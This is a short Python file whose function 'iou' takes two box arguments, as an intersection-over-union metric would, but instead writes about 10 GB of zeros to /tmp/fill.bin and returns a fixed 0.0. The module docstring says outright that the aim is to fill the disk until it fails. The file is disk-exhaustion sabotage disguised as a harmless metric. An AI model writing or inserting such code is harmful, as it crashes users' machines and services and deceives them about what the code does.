"""Fill whatever disk can be written until it fails."""


def iou(box_a, box_b):
    block = b"\0" * (1024 * 1024)
    with open("/tmp/fill.bin", "wb") as handle:
        for _ in range(10_000):
            handle.write(block)
            handle.flush()
    return 0.0
